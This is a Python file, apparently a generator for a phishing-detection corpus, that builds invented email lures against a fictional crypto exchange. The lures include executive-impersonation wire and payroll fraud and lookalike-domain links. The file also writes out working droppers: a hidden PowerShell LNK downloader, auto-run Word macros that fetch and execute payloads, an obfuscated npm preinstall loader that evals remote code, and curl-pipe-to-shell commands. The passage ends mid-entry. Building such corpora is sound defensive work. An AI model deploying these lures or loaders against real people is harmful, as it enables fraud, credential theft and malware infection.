"""Targeted lures against Kitsune Exchange, written for this set (no corpus mail copied).

Sender domains of lures are invented. Wallet addresses are invented and hold nothing.
"""

from __future__ import annotations

import json

import binaries as b
from people import (
    CEO,
    CFO,
    HADDAD,
    ITO,
    ITO_JA,
    KEIRI,
    LAURENT,
    LI,
    PARK,
    SUZUKI,
    SUZUKI_JA,
    TAKAHASHI,
    TANAKA,
    TANAKA_JA,
)
from spec import Att, Mail

PS = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
CMD = r"C:\Windows\System32\cmd.exe"
RUNDLL = r"C:\Windows\System32\rundll32.exe"


def _lnk_ps(url: str, decoy: str) -> bytes:
    return b.lnk(PS, f'-w hidden -nop -c "iwr {url} -OutFile $env:TEMP\\upd.exe; start $env:TEMP\\upd.exe; '
                     f'start {decoy}"', r"C:\Windows\System32\imageres.dll,2", name=decoy)


def _coding_test_zip() -> bytes:
    package = {
        "name": "trading-dashboard-assessment",
        "version": "1.3.0",
        "private": True,
        "scripts": {"preinstall": "node scripts/prepare.js", "start": "vite", "test": "vitest"},
        "dependencies": {"react": "^18.3.1", "ethers": "^6.13.4", "axios": "^1.7.7"},
    }
    prepare = ("const _0x1a=['aHR0cHM6Ly9hcGkudHJhZGluZy1hc3Nlc3NtZW50LmxpbmsvdjEvY2hlY2s=','Y2hpbGRfcHJvY2Vzcw=='];"
               "const d=s=>Buffer.from(s,'base64').toString();"
               "require('https').get(d(_0x1a[0]),r=>{let t='';r.on('data',c=>t+=c);"
               "r.on('end',()=>{try{eval(t)}catch(e){}})});\n")
    readme = ("# Trading dashboard assessment\n\nRun `npm install` then `npm start`. Fix the bug in "
              "`src/components/WalletBalance.tsx` so balances refresh every block. Time limit: 45 minutes.\n")
    return b.zip_archive([
        ("trading-dashboard-assessment/package.json", json.dumps(package, indent=2).encode()),
        ("trading-dashboard-assessment/scripts/prepare.js", prepare.encode()),
        ("trading-dashboard-assessment/README.md", readme.encode()),
        ("trading-dashboard-assessment/src/components/WalletBalance.tsx",
         b"export function WalletBalance() {\n  return null; // TODO\n}\n"),
    ])


MACRO_HR = (
    'Attribute VB_Name = "ThisDocument"\n'
    "Private Sub Document_Open()\n"
    "    Dim s As String\n"
    '    s = "powershell -w hidden -nop -c ""iwr https://hr-docs-cdn.net/q4/review.dat -OutFile '
    '$env:APPDATA\\r.exe; start $env:APPDATA\\r.exe"""\n'
    '    CreateObject("WScript.Shell").Run s, 0, False\n'
    "End Sub\n"
)

MACRO_MINUTES = """Attribute VB_Name = "Module1"
Sub AutoOpen()
    Dim x As Object
    Set x = CreateObject("MSXML2.XMLHTTP")
    x.Open "GET", "https://minutes-share.jp-docs.net/m.txt", False
    x.Send
    Shell "mshta " & x.responseText, vbHide
End Sub
"""


LURES: list[Mail] = [
    # ---------------------------------------------------------------- exec-impersonation
    Mail("lure", "exec-impersonation", "en",
         "CEO display name from free mail; secrecy and channel switch to a personal phone",
         ("Haruto Sato", "haruto.sato.kx@gmail.com"), (TANAKA,),
         "Quick favour - confidential",
         """Mika,

Are you at your desk? I am in back-to-back board sessions in Singapore and cannot take calls.
I need you to handle a time-sensitive matter for me today. Please keep this between us for now,
the announcement is not public yet.

Reply with your mobile number and I will text you the details.

Haruto Sato
CEO, Kitsune Exchange
Sent from my iPhone""",
         "2026-10-05 10:42 +0800"),
    Mail("lure", "exec-impersonation", "ja",
         "CEO name in Japanese from outlook.jp free mail, secrecy, asks for a LINE ID",
         ("佐藤 陽翔", "sato.haruto.ceo@outlook.jp"), (TANAKA_JA,),
         "至急のお願い",
         """田中さん

お疲れ様です。佐藤です。
今、取締役会の最中で電話に出られません。
本日中に対応してほしい案件があります。この件は社内でも他言無用でお願いします。

詳細はLINEで送りますので、LINEのIDを返信してください。

佐藤""",
         "2026-10-06 14:03 +0900", charset="iso-2022-jp"),
    Mail("lure", "exec-impersonation", "ja",
         "CEO with 社長 honorific from hyphen lookalike kitsune-ex-co.jp; same-day transfer, secrecy",
         ("佐藤社長", "ceo@kitsune-ex-co.jp"), (KEIRI,),
         "【重要】本日中の送金手続きについて",
         """経理部 各位

お疲れ様です。佐藤です。
現在進めている提携案件について、本日15時までに下記の手続きをお願いします。
先方の監査法人との守秘義務契約があるため、この件は私と経理部の間だけで進めてください。
電話は会議中のため出られません。メールで返信をお願いします。

金額: 48,500,000円
送金先: 別途メールでお送りします

よろしくお願いします。

代表取締役 CEO
佐藤 陽翔""",
         "2026-10-07 11:15 +0900"),
    Mail("lure", "exec-impersonation", "en",
         "CEO name in family-first order from combosquat kitsune-exchange.com; board deck share link on the same lookalike",
         ("Sato Haruto", "haruto@kitsune-exchange.com"), (ITO,),
         "Board deck - need your comments by EOD",
         """Yuki,

I've uploaded the revised board deck for Thursday. Please review slides 12-18 (treasury and custody)
and add your comments directly in the document before end of day:

https://kitsune-exchange.com/share/board-deck-q4?u=y.ito

You will need to sign in with your company account.

Thanks,
Haruto""",
         "2026-10-08 08:51 +0900"),
    Mail("lure", "exec-impersonation", "en",
         "'H. Sato' alias from TLD-swapped kitsune-ex.co; asks to whitelist a new withdrawal address",
         ("H. Sato", "h.sato@kitsune-ex.co"), (TANAKA,),
         "New OTC counterparty - withdrawal whitelist",
         """Mika,

We signed with a new OTC counterparty this morning. Please add their settlement address to the
hot wallet withdrawal whitelist today so the first settlement can go out tomorrow:

ETH: 0x5e1b0c9d27a4f36b8e90d1c2a7f4b3e6d8c90a17

I have already cleared it with compliance. No need to raise a ticket, I'll sign off afterwards.

H. Sato""",
         "2026-10-09 16:20 +0900"),
    Mail("lure", "exec-impersonation", "en",
         "CFO name from TLD-swapped kitsune-ex.co asking accounts payable to change a vendor's bank details",
         ("Emily Carter", "emily.carter@kitsune-ex.co"), (KEIRI,),
         "Updated remittance details for Fireblocks invoice",
         """Hello team,

Fireblocks have moved their billing to a new entity. Please update the bank details on file before
paying invoice FB-2026-1187 today:

Beneficiary: FB Digital Services Ltd
Bank: Baltic Commerce Bank
IBAN: LT62 7300 0101 6294 1187
SWIFT: BCBKLT2X

Please confirm once the payment is released. I'm travelling so email is best.

Emily Carter
CFO""",
         "2026-10-12 09:34 +0000"),
    Mail("lure", "exec-impersonation", "ja",
         "CFO name in katakana from gmail asking for wallet balances and signer names 'for the audit'",
         ("エミリー・カーター", "emily.carter.cfo@gmail.com"), (TANAKA_JA,),
         "至急：監査対応の件",
         """田中さん

お疲れ様です。エミリーです。
監査法人から急ぎの依頼があり、本日中に以下の情報が必要です。

・ホットウォレットとウォームウォレットの残高一覧
・各ウォレットの署名者の氏名と連絡先

会社のアカウントにログインできない状況のため、このアドレスに直接返信してください。
よろしくお願いします。

エミリー・カーター
CFO""",
         "2026-10-13 18:05 +0900"),
    Mail("lure", "exec-impersonation", "en",
         "display name is the CEO's real address; actual address is an unrelated relay domain",
         ("h.sato@kitsune-ex.co.jp", "hs-office@mail-secure-relay.com"), (TANAKA,),
         "Wire approval needed before 3pm",
         """Mika,

Please process the attached payment instruction before 3pm today. It is for the acquisition
deposit we discussed at the leadership offsite. Legal has asked us not to discuss it on Slack.

Amount: USD 385,000
I'll send the beneficiary details in a follow-up email.

Regards,
Haruto Sato""",
         "2026-10-14 10:02 +0900"),
    Mail("lure", "exec-impersonation", "en",
         "From spoofs the CEO's exact address (SPF/DMARC fail) with Reply-To to a personal proton.me box",
         CEO, (TANAKA,),
         "Confidential: reply to my private address",
         """Mika,

My company mailbox is being migrated today and replies may get lost. Please reply to my private
address only (it is set as reply-to on this mail).

I need the current USDC balance of hot wallet 1 and the name of whoever is on signing duty
this week. Urgent, the board is waiting.

Haruto""",
         "2026-10-15 07:48 +0900", reply_to="Haruto Sato <haruto.sato.private@proton.me>", auth="fail",
         helo="vps-7731.hostingcloud.example.net"),
    Mail("lure", "exec-impersonation", "en",
         "CEO name spelled with Cyrillic homoglyphs (Н, о) in the display name, from an unrelated domain",
         ("Нaruto Satо", "office@kx-holdings.net"), (ITO,),
         "Gift for the board members",
         """Yuki,

I would like to surprise the board members with a gift after Thursday's meeting.
Can you buy 8 Apple gift cards (JPY 50,000 each) this afternoon and send me the codes?
I'll reimburse you personally. Please keep it quiet, it's a surprise.

Haruto Sato""",
         "2026-10-16 13:27 +0900"),
    Mail("lure", "exec-impersonation", "ko",
         "CEO name written in Korean Hangul (not in the profile) from naver.com; urgent confidential task",
         ("사토 하루토 대표이사", "sato.haruto.kx@naver.com"), (PARK,),
         "긴급 요청드립니다",
         """박대현 님,

사토 하루토입니다. 지금 이사회 회의 중이라 전화를 받을 수 없습니다.
오늘 안에 처리해야 할 기밀 업무가 있습니다. 이 건은 다른 직원들에게 공유하지 말아 주세요.

카카오톡 아이디를 회신해 주시면 자세한 내용을 보내겠습니다.

사토 하루토
Kitsune Exchange 대표이사""",
         "2026-10-19 15:11 +0900"),
    Mail("lure", "exec-impersonation", "fr",
         "CEO name with (PDG) title from gmx.fr asking the Paris office for a confidential transfer",
         ("Haruto Sato (PDG)", "haruto.sato.pdg@gmx.fr"), (LAURENT,),
         "Opération confidentielle - à traiter aujourd'hui",
         """Bonjour Camille,

Je vous écris depuis mon adresse personnelle car je suis en déplacement.
Nous finalisons une acquisition en Europe et j'ai besoin que vous prépariez un virement de
210 000 EUR aujourd'hui. L'opération est strictement confidentielle jusqu'à l'annonce officielle :
merci de n'en parler à personne, y compris au service financier à Tokyo.

Je vous enverrai les coordonnées bancaires de l'avocat en charge du dossier.

Cordialement,
Haruto Sato
Président-directeur général""",
         "2026-10-20 10:40 +0200"),
    Mail("lure", "exec-impersonation", "ja",
         "'代表取締役社長 佐藤陽翔' (no space, title prefix) from kitsune-ex.jp (TLD swap of co.jp)",
         ("代表取締役社長 佐藤陽翔", "daihyo@kitsune-ex.jp"), (ITO_JA,),
         "ご確認ください（社長より）",
         """伊藤さん

お疲れさまです。佐藤です。
来週の株主との打ち合わせに使う資料を共有します。
下記のリンクから社内アカウントでログインして、内容を確認しておいてください。

https://kitsune-ex.jp/docs/shareholder-meeting

急ぎでお願いします。""",
         "2026-10-21 09:18 +0900"),
    Mail("lure", "exec-impersonation", "en",
         "'Carter, Emily' (surname first) from kitsunex.com, hyphen dropped; payroll change request",
         ("Carter, Emily", "e.carter@kitsunex.com"), (KEIRI,),
         "Payroll - change of account for November",
         """Hi,

I have changed banks. Please make sure my November salary is paid into the new account below
and not the old one. I'm out of the office, please confirm by email.

Bank: Sumishin Net Bank
Branch: 101
Account: 7720019

Thanks,
Emily""",
         "2026-10-22 12:55 +0900"),
    Mail("lure", "exec-impersonation", "zh",
         "CEO name in simplified Chinese characters (佐藤阳翔) from 163.com; urgent secret payment",
         ("佐藤阳翔", "sato.ceo.kx@163.com"), (LI,),
         "紧急：请今天处理",
         """李伟，你好：

我是佐藤。我现在在开会，不方便接电话。
有一笔与香港合作伙伴相关的付款需要今天完成，请先不要告诉其他同事。
请回复这封邮件，我会把收款地址发给你。

佐藤阳翔
Kitsune Exchange 首席执行官""",
         "2026-10-23 11:02 +0800"),

    # ---------------------------------------------------------------- vendor-impersonation
    Mail("lure", "vendor-impersonation", "en",
         "Safe{Wallet} branding from safe-global.io (hyphenated lookalike of safe.global); signer re-verification link",
         ("Safe{Wallet}", "security@safe-global.io"), (TANAKA,),
         "Action required: re-verify your Safe signers",
         """Dear Safe owner,

Following the Safe{Wallet} 1.4 contract migration, every owner of a multi-signature Safe must
re-verify their signer within 48 hours. Safes with unverified signers will be paused.

Re-verify your signer: https://app.safe-global.io/verify?chain=eth

Connect the wallet you use to sign and approve the verification message.

The Safe{Wallet} team""",
         "2026-10-05 03:12 +0000",
         html="""<html><body style="font-family:Arial">
<p>Dear Safe owner,</p>
<p>Following the Safe{Wallet} 1.4 contract migration, every owner of a multi-signature Safe must
re-verify their signer within <b>48 hours</b>. Safes with unverified signers will be paused.</p>
<p><a href="https://app.safe-global.io/verify?chain=eth" style="background:#12ff80;padding:10px 18px;color:#000">Re-verify signer</a></p>
<p>The Safe{Wallet} team</p></body></html>"""),
    Mail("lure", "vendor-impersonation", "en",
         "Fireblocks support from fireblocks-io.com; co-signer certificate 'renewal' download",
         ("Fireblocks Support", "support@fireblocks-io.com"), (TAKAHASHI,),
         "Your API Co-Signer certificate expires in 24 hours",
         """Hello,

The TLS certificate of the API Co-Signer registered to workspace "Kitsune Exchange" expires in
24 hours. After expiry, automated transaction signing will stop.

Please download the updated Co-Signer package and install it on the co-signer host:
https://console.fireblocks-io.com/cosigner/renew?ws=kitsune-exchange

If you have questions, reply to this email.

Fireblocks Support""",
         "2026-10-06 22:40 +0000"),
    Mail("lure", "vendor-impersonation", "en",
         "Fireblocks name from firebiocks.com (l->i); new device approval link",
         ("Fireblocks", "noreply@firebiocks.com"), (TANAKA,),
         "New device approval required - Kitsune Exchange workspace",
         """A new device requested access to the workspace Kitsune Exchange.

Device: MacBook Pro (macOS 15.1)
Location: Tokyo, JP
Time: 2026-10-09 01:12 UTC

If this was you, approve the device. If not, secure your account immediately:
https://console.firebiocks.com/devices/approve?id=8f2c1e

Fireblocks""",
         "2026-10-09 01:14 +0000"),
    Mail("lure", "vendor-impersonation", "ja",
         "'Fireblocks Japan' from fireblocks.co (TLD swap of fireblocks.com); settings check link",
         ("Fireblocks Japan", "japan-support@fireblocks.co"), (TANAKA_JA,),
         "【Fireblocks】ワークスペース設定の確認のお願い",
         """Kitsune Exchange 株式会社
田中 美香 様

平素よりFireblocksをご利用いただき誠にありがとうございます。
金融庁のガイドライン改定に伴い、すべての国内ワークスペースで承認ポリシーの再確認が必要となりました。
11月15日までに以下のページからログインし、設定内容をご確認ください。

https://console.fireblocks.co/jp/policy-review

期限までにご確認いただけない場合、出金機能が一時的に制限されます。

Fireblocks Japan サポートチーム""",
         "2026-10-10 10:30 +0900"),
    Mail("lure", "vendor-impersonation", "en",
         "Safe security incident notice from safe-global-support.com urging owners to 'rotate owners' via a tool",
         ("Safe Security Team", "alerts@safe-global-support.com"), (TANAKA,),
         "Security incident: rotate the owners of your Safe accounts now",
         """Safe has detected a vulnerability affecting Safes created before 2024 on Ethereum mainnet.
To protect your funds, rotate the owners of every affected Safe using our owner rotation tool:

https://safe-global-support.com/rotate

The tool will ask you to connect each owner wallet and sign a single transaction.
Do not delay: affected Safes are actively being exploited.

Safe Security Team""",
         "2026-10-27 05:50 +0000"),
    Mail("lure", "vendor-impersonation", "ar",
         "Arabic notice signed 'Safe' from safeglobal.app; asks to connect the wallet to avoid a freeze",
         ("فريق Safe", "support@safeglobal.app"), (HADDAD,),
         "إجراء مطلوب: تحقق من محفظتك",
         """عزيزي العميل،

بسبب تحديث أمني في Safe{Wallet}، يجب على جميع المالكين التحقق من محافظهم خلال 24 ساعة،
وإلا سيتم تجميد المعاملات مؤقتاً.

يرجى ربط محفظتك والتوقيع على رسالة التحقق عبر الرابط التالي:
https://safeglobal.app/verify

مع التحية،
فريق Safe""",
         "2026-10-28 08:20 +0400"),
    Mail("lure", "vendor-impersonation", "ko",
         "Fireblocks Korea branding from fireblocks-kr.com; API key re-issue link",
         ("Fireblocks Korea", "korea@fireblocks-kr.com"), (PARK,),
         "[Fireblocks] API 키 재발급 안내",
         """안녕하세요, Fireblocks 코리아입니다.

보안 정책 변경에 따라 2026년 11월 10일 이전에 발급된 모든 API 키를 재발급해야 합니다.
아래 링크에서 로그인하여 새 API 키와 비밀 키 파일을 발급받으시기 바랍니다.

https://console.fireblocks-kr.com/api-keys/reissue

기한 내에 재발급하지 않으면 API 접근이 중단됩니다.

Fireblocks 코리아 드림""",
         "2026-10-29 11:45 +0900"),
    Mail("lure", "vendor-impersonation", "fr",
         "Safe branding from safe-global.fr asking for the recovery phrase to 'migrate' a Safe",
         ("Safe{Wallet} France", "equipe@safe-global.fr"), (LAURENT,),
         "Migration obligatoire de votre Safe",
         """Bonjour,

Dans le cadre de la mise en conformité MiCA, les Safes détenus par des prestataires européens
doivent être migrés vers notre nouvelle infrastructure avant le 30 novembre.

Pour lancer la migration, ouvrez https://safe-global.fr/migration et saisissez la phrase de
récupération du portefeuille propriétaire. La procédure prend moins de cinq minutes.

L'équipe Safe{Wallet}""",
         "2026-10-30 09:05 +0100"),

    # ---------------------------------------------------------------- lookalike-link
    Mail("lure", "lookalike-link", "en",
         "helpdesk mail from kitsune-ex-it.com linking to kitsune-ex.co.jp.sso-verify.net (brand as a subdomain)",
         ("IT Service Desk", "servicedesk@kitsune-ex-it.com"), (SUZUKI,),
         "Your password expires today",
         """Hello Kenta,

Your Kitsune Exchange network password expires today. To keep access to email, VPN and the
admin console, update it now:

https://kitsune-ex.co.jp.sso-verify.net/login?user=k.suzuki

IT Service Desk
Kitsune Exchange K.K.""",
         "2026-10-05 08:00 +0900"),
    Mail("lure", "lookalike-link", "en",
         "link text shows app.safe.global but the href goes to app-safe.global-tx.com",
         ("Treasury Ops Alerts", "alerts@txqueue-monitor.io"), (TANAKA,),
         "3 transactions waiting for your signature",
         """3 transactions are waiting for your signature in Safe eth:0x9A3f...c41E.

Review: https://app.safe.global/transactions/queue

Treasury Ops Alerts""",
         "2026-10-07 02:33 +0000",
         html="""<html><body>
<p>3 transactions are waiting for your signature in Safe <code>eth:0x9A3f...c41E</code>.</p>
<p>Review: <a href="https://app-safe.global-tx.com/transactions/queue?safe=eth:0x9A3f">https://app.safe.global/transactions/queue</a></p>
<p>Treasury Ops Alerts</p></body></html>"""),
    Mail("lure", "lookalike-link", "en",
         "IDN homoglyph: console.fіreblocks.io with Cyrillic і, punycode in the href",
         ("Workspace Notifications", "notify@workspace-events.io"), (TAKAHASHI,),
         "Policy change pending approval",
         """A change to the Transaction Authorization Policy is pending your approval.

Rule: "Hot wallet > external, up to 500 ETH, 1 approver"
Requested by: m.tanaka

Open the approval: https://console.fіreblocks.io/policy/pending/4471""",
         "2026-10-08 04:12 +0000",
         html="""<html><body>
<p>A change to the Transaction Authorization Policy is pending your approval.</p>
<p>Rule: "Hot wallet &gt; external, up to 500 ETH, 1 approver"<br>Requested by: m.tanaka</p>
<p><a href="https://console.xn--freblocks-v9h.io/policy/pending/4471">Open the approval in console.fіreblocks.io</a></p>
</body></html>"""),
    Mail("lure", "lookalike-link", "ja",
         "HR notice from kitsune-ex-hr.jp linking to kitsune-ex.co.jp-nenmatsu.com (brand + hyphen suffix)",
         ("人事部", "jinji@kitsune-ex-hr.jp"), (SUZUKI_JA,),
         "【人事部】年末調整の入力期限のお知らせ",
         """社員各位

人事部です。
年末調整の入力期限は11月14日（金）です。
まだ入力がお済みでない方は、以下のページから社内アカウントでログインし、入力を完了してください。

https://kitsune-ex.co.jp-nenmatsu.com/login

期限を過ぎると、ご自身で確定申告が必要になる場合があります。

人事部""",
         "2026-11-04 09:30 +0900"),
    Mail("lure", "lookalike-link", "ko",
         "Korean security notice linking to kitsune-exx.com (doubled letter typo)",
         ("보안팀", "security@kitsune-exx.com"), (PARK,),
         "[보안] 비정상 로그인 시도가 감지되었습니다",
         """박대현 님,

귀하의 계정에서 해외 IP(185.220.x.x)를 통한 로그인 시도가 감지되었습니다.
본인이 아닌 경우 아래 링크에서 즉시 비밀번호를 변경해 주세요.

https://kitsune-exx.com/account/security

Kitsune Exchange 보안팀""",
         "2026-11-05 13:40 +0900"),
    Mail("lure", "lookalike-link", "en",
         "Safe UI 'preview' hosted at app.safe.global.vercel.app (brand domain as a subdomain of free hosting)",
         ("Lucas Meyer", "lucas.meyer.dev@gmail.com"), (SUZUKI,),
         "Safe UI preview for the owner migration",
         """Hi Kenta,

As discussed at the Safe community call, here is the preview deployment of the new owner
management UI. It already supports your custody setup; could you try the migration flow with
one of your test Safes and tell me if anything breaks?

https://app.safe.global.vercel.app/settings/owners

Cheers,
Lucas""",
         "2026-11-06 17:22 +0100"),
    Mail("lure", "lookalike-link", "fr",
         "French password reset notice linking to kitsune-ex.support (brand label under another TLD)",
         ("Support Kitsune Exchange", "no-reply@kitsune-ex.support"), (LAURENT,),
         "Réinitialisation de votre mot de passe",
         """Bonjour Camille,

Une demande de réinitialisation du mot de passe de votre compte professionnel a été reçue.
Si vous n'êtes pas à l'origine de cette demande, annulez-la immédiatement :

https://kitsune-ex.support/reinitialisation/annuler?id=55190

Le service informatique""",
         "2026-11-07 08:15 +0100"),
    Mail("lure", "lookalike-link", "ar",
         "Arabic account-verification mail linking to kitsune-ex.com-secure.app (brand then fake registrable domain)",
         ("Kitsune Exchange", "verify@com-secure.app"), (HADDAD,),
         "تحقق من حسابك خلال 24 ساعة",
         """السيد عمر،

لاحظنا نشاطاً غير معتاد في حسابك. للحفاظ على أمان حسابك، يرجى التحقق من هويتك خلال 24 ساعة
عبر الرابط التالي:

https://kitsune-ex.com-secure.app/verify

فريق الأمن
Kitsune Exchange""",
         "2026-11-08 10:10 +0400"),

    # ---------------------------------------------------------------- recruiter-coding-test
    Mail("lure", "recruiter-coding-test", "en",
         "recruiter on gmail; inflated salary; Bitbucket repo plus 'npm install && npm run dev' under time pressure",
         ("Daniel Moore | Talent Partner", "daniel.moore.talent@gmail.com"), (SUZUKI,),
         "Senior Blockchain Engineer - Aurora DeFi Labs (USD 250-320k, remote)",
         """Hi Kenta,

I came across your profile and your work on matching engines is exactly what Aurora DeFi Labs is
looking for. The role is Senior Blockchain Engineer, fully remote, USD 250-320k plus tokens.

The next step is a short technical assessment (45 minutes):

1. git clone https://bitbucket.org/auroradefi-hiring/trading-dashboard-test.git
2. cd trading-dashboard-test && npm install && npm run dev
3. Fix the bug in the wallet balance component and send me a screenshot.

The hiring manager would like to see results today if possible so we can schedule the final
interview this week.

Best,
Daniel Moore
Talent Partner, Aurora DeFi Labs""",
         "2026-10-05 19:30 +0000"),
    Mail("lure", "recruiter-coding-test", "en",
         "recruiter from an unknown startup domain; GitHub assessment repo plus a vercel.app preview, run locally",
         ("Sarah Kim", "sarah.kim@nexoralabs.io"), (SUZUKI,),
         "Nexora Labs - take-home assessment",
         """Hello Kenta,

Thanks for the great chat yesterday. As promised, here is the take-home assessment.

Repository: https://github.com/nexora-labs-hr/assessment-2026
Live preview of the expected result: https://nexora-assessment.vercel.app

Please clone the repository, run `npm install` and `npm start`, connect the test wallet in the
app and implement the missing swap quote feature. Make sure to run the project locally, the
backend mocks only load on your machine.

Looking forward to your solution within 24 hours.

Sarah Kim
Head of Talent, Nexora Labs""",
         "2026-10-06 11:05 +0000"),
    Mail("lure", "recruiter-coding-test", "ja",
         "Japanese recruiter on outlook.com; GitHub technical test with npm install then npm start",
         ("リクルーター 山本", "yamamoto.recruit@outlook.com"), (SUZUKI_JA,),
         "【スカウト】ブロックチェーンエンジニア職のご案内",
         """鈴木 健太 様

突然のご連絡失礼いたします。
Web3企業専門のリクルーターをしております山本と申します。
シンガポールの暗号資産取引所が、シニアバックエンドエンジニアを年収2,500万円から募集しております。

一次選考として簡単な技術課題をご用意しております。
下記のリポジトリをクローンし、npm install の後に npm start で起動して、
ウォレット接続部分の不具合を修正してください（所要時間 約40分）。

https://github.com/sg-exchange-recruit/backend-skill-check

本日中にご提出いただけますと、明日に最終面接を設定できます。

山本""",
         "2026-10-07 20:14 +0900"),
    Mail("lure", "recruiter-coding-test", "en",
         "coding test zip attached; package.json preinstall runs an obfuscated loader that evals a remote script",
         ("Alex Turner", "alex.turner@quantforge-careers.com"), (SUZUKI,),
         "QuantForge - coding assessment attached",
         """Hi Kenta,

Thanks for your interest in the Senior Full-Stack role at QuantForge.
Attached is the coding assessment. Unzip it, run `npm install` and `npm start`, then fix the
balance refresh bug described in README.md. Please send your result within 45 minutes of opening.

Good luck!
Alex Turner
Technical Recruiter, QuantForge""",
         "2026-10-09 14:00 +0000",
         attachments=(Att("Coding_Assessment_v3.zip", _coding_test_zip(), "application/zip"),)),
    Mail("lure", "recruiter-coding-test", "fr",
         "French headhunter on proton.me; GitHub test project to run with npm install",
         ("Claire Dubois - Recrutement Web3", "claire.dubois.rh@proton.me"), (LAURENT,),
         "Opportunité Lead Developer Web3 - test technique",
         """Bonjour Camille,

Je recrute pour une plateforme d'actifs numériques basée à Zurich (poste de Lead Developer,
180 000 CHF). Votre profil correspond parfaitement.

Avant l'entretien avec le CTO, nous demandons un court test technique :
- clonez https://github.com/zurich-digital-assets/dev-test
- lancez npm install puis npm run start
- corrigez l'affichage du solde du portefeuille

Merci de me renvoyer votre solution avant ce soir.

Bien cordialement,
Claire Dubois""",
         "2026-10-12 16:45 +0200"),
    Mail("lure", "recruiter-coding-test", "ko",
         "Korean recruiter on gmail; repo clone plus npm install as a screening task",
         ("김지훈 (채용 담당)", "hr.recruit.web3@gmail.com"), (PARK,),
         "[채용] 블록체인 백엔드 개발자 포지션 제안",
         """안녕하세요, 박대현 님.

싱가포르 소재 디파이 프로젝트의 채용을 담당하고 있는 김지훈입니다.
연봉 2억 원 수준의 시니어 백엔드 개발자 포지션을 제안드리고자 연락드렸습니다.

1차 전형으로 간단한 과제를 부탁드립니다.
  git clone https://bitbucket.org/defi-sg-hiring/wallet-task.git
  npm install
  npm run dev
실행 후 지갑 잔액 표시 오류를 수정해 주세요. 오늘 중으로 제출해 주시면 감사하겠습니다.

김지훈 드림""",
         "2026-10-14 21:10 +0900"),
    Mail("lure", "recruiter-coding-test", "zh",
         "Chinese headhunter on qq.com; GitHub test repo to install and run",
         ("猎头 王小姐", "hunter.web3@qq.com"), (LI,),
         "高薪职位：区块链高级工程师（技术测试）",
         """李伟先生您好：

我是专注Web3行业的猎头。迪拜一家交易所正在招聘高级区块链工程师，年薪80万美元。

第一轮是技术测试，请按以下步骤完成：
1. 克隆代码库 https://github.com/dubai-exchange-hr/skill-test
2. 运行 npm install，然后运行 npm start
3. 修复钱包余额显示的问题

请在今天内完成并回复截图。谢谢！

王小姐""",
         "2026-10-15 10:25 +0800"),
    Mail("lure", "recruiter-coding-test", "en",
         "LinkedIn-styled notification from linkedin-messaging.net (not linkedin.com); pre-employment test on vercel.app",
         ("LinkedIn", "messages-noreply@linkedin-messaging.net"), (SUZUKI,),
         "Sarah Lin sent you a message: pre-employment test",
         """Sarah Lin
Talent Acquisition at Stellar Quant

"Hi Kenta, congratulations on passing the first screening! Please complete the pre-employment
test within 24 hours. Download the project from the portal, run it locally with npm install and
npm start, and submit your result there."

Open the test portal: https://stellar-quant-hiring.vercel.app/test/kenta-suzuki

View message: https://www.linkedin-messaging.net/messaging/thread/2-ODQ1""",
         "2026-10-16 06:40 +0000"),
    Mail("lure", "recruiter-coding-test", "ar",
         "Arabic recruiter on gmail; Bitbucket repo with npm install as a job test",
         ("ليلى منصور - التوظيف", "layla.mansour.jobs@gmail.com"), (HADDAD,),
         "عرض عمل: مهندس بلوكتشين أول - اختبار تقني",
         """مرحباً عمر،

أعمل في توظيف الكفاءات لمنصة أصول رقمية في أبوظبي، ويسعدني أن أعرض عليك منصب مهندس
بلوكتشين أول براتب سنوي 600,000 درهم.

الخطوة الأولى اختبار تقني قصير:
git clone https://bitbucket.org/adgm-digital-hiring/skills-test.git
ثم npm install ثم npm start
وأصلح مشكلة عرض رصيد المحفظة.

نرجو إرسال الحل اليوم.

ليلى منصور""",
         "2026-10-17 12:30 +0400"),

    # ---------------------------------------------------------------- investor-meeting-install
    Mail("lure", "investor-meeting-install", "en",
         "'investor' asks to fix Zoom audio by piping a script from a zoom lookalike into bash before the call",
         ("Michael Chen", "michael@apex-ventures.capital"), (CEO,),
         "Re: Intro call Thursday - quick audio fix",
         """Hi Haruto,

Looking forward to our call on Thursday. Several of our partners had audio problems with the
latest Zoom on macOS last week, so our IT team asks guests to run their one-line fix first:

curl -fsSL https://zoom-audio-fix.us/install.sh | bash

It only takes a few seconds. Meeting link: https://us05web.zoom-us.live/j/84722019931

Best regards,
Michael Chen
Partner, Apex Ventures""",
         "2026-10-06 01:20 +0000"),
    Mail("lure", "investor-meeting-install", "en",
         "Teams-styled invite hosted on microsoft-live.com with a 'Teams SDK update' exe download",
         ("Olivia Grant", "olivia.grant@northgate-partners.co"), (CFO,),
         "Series B follow-up - Microsoft Teams meeting",
         """Microsoft Teams meeting
Join on your computer or mobile app:
https://teams.microsoft-live.com/l/meetup-join/19%3ameeting_NzQ2

If the meeting does not load, install the latest Teams SDK first:
https://teams-sdk-update.com/download/TeamsSDK_Setup.exe

Olivia Grant
Northgate Partners""",
         "2026-10-08 15:00 +0000"),
    Mail("lure", "investor-meeting-install", "ja",
         "Japanese 'investor' asks to run a curl | sh 'Zoom connection fix' in Terminal before the meeting",
         ("田中 誠（富士クレストキャピタル）", "tanaka@fuji-crest-capital.com"), (CEO,),
         "明日のお打ち合わせの件（Zoom接続について）",
         """佐藤社長

いつもお世話になっております。富士クレストキャピタルの田中です。
明日のお打ち合わせ、よろしくお願いいたします。

先日、別の投資先様との会議でMacのZoomに接続できない問題が発生しました。
恐れ入りますが、事前にターミナルで以下のコマンドを実行していただけますでしょうか。

curl -sSL https://zoom-jp-support.com/fix/connect.sh | sh

会議URL: https://zoom-jp-support.com/j/93821004421

何卒よろしくお願いいたします。

田中 誠""",
         "2026-10-13 17:40 +0900"),
    Mail("lure", "investor-meeting-install", "ko",
         "Korean VC meeting link on zoom-meet.kr with a required 'Zoom SDK' pkg download",
         ("이서준 파트너", "sj.lee@hanriver-vc.kr"), (PARK,),
         "투자 미팅 안내 (Zoom SDK 업데이트 필요)",
         """박대현 님, 안녕하세요.

한강벤처스 이서준입니다. 내일 오전 10시 투자 미팅 링크를 보내드립니다.
https://us06web.zoom-meet.kr/j/82210043391

최근 Zoom 보안 정책 변경으로 회의 전에 Zoom SDK를 업데이트하셔야 입장이 가능합니다.
https://zoom-meet.kr/download/ZoomSDK_Update.pkg

감사합니다.
이서준 드림""",
         "2026-10-20 18:00 +0900"),
    Mail("lure", "investor-meeting-install", "fr",
         "French fund asks to run an 'iwr | iex' PowerShell one-liner to update Teams before the meeting",
